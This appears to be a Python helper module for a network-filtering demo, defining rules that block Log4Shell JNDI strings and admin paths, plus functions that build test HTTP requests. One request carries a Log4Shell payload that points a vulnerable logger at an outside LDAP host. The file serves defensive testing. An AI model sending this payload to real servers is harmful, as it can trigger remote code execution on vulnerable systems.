# SPDX-License-Identifier: GPL-2.0-or-later
"""What both demos, live and replayed, have in common: the rules, the requests, and how a step is told."""

import json
import pathlib

EXPLOIT_MARK = "${jndi:ldap://203.0.113.7/a}"
ADMIN_PATH = "/admin/export"

LOG4SHELL = {
    "id": "log4shell",
    "action": "reject",
    "direction": "to_server",
    "to": {"ports": [80]},
    "match": {"payload": {"contains": "${jndi:", "nocase": True}},
}
NO_ADMIN = {
    "id": "no-admin",
    "action": "drop",
    "direction": "to_server",
    "to": {"ports": [80]},
    "match": {"payload": {"starts_with": "GET /admin"}},
}


def write_rules(path: pathlib.Path, *rules: dict) -> None:
    """A rule a line, so that the file reads well on a terminal."""
    lines = ",\n".join("  " + json.dumps(rule) for rule in rules)
    path.write_text(f'{{"rules": [\n{lines}\n]}}\n', encoding="utf-8")


def exploit_request(host: str) -> bytes:
    return f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {EXPLOIT_MARK}\r\nConnection: close\r\n\r\n".encode()


def plain_request(host: str, path: str = "/") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl\r\nConnection: close\r\n\r\n".encode()


class Teller:
    """Numbers the steps, and remembers whether each went as it should."""

    def __init__(self) -> None:
        self._step = 0
        self.went_wrong: list[str] = []

    def step(self, title: str) -> None:
        self._step += 1
        print(f"\n{self._step}. {title}", flush=True)

    @staticmethod
    def show(*lines: str) -> None:
        for line in lines:
            print("     " + line, flush=True)

    def outcome(self, blocked: bool, *, expected: bool, detail: str = "") -> None:
        word = "BLOCKED" if blocked else "PASSED"
        self.show(f"=> {word}{': ' + detail if detail else ''}")
        if blocked != expected:
            self.show("!! this is not what should have happened")
            self.went_wrong.append(f"step {self._step}")

    def end(self) -> int:
        print()
        if self.went_wrong:
            print(f"The demo did not go as it should: {', '.join(self.went_wrong)}.")
            return 1
        print("Everything went as it should.")
        return 0


def event_line(event: dict) -> str:
    alert = event.get("alert", {})
    return (
        f"event: {alert.get('signature', '?')} {alert.get('action', '?')}, "
        f"{event.get('src_ip')}:{event.get('src_port')} -> {event.get('dest_ip')}:{event.get('dest_port')}"
    )
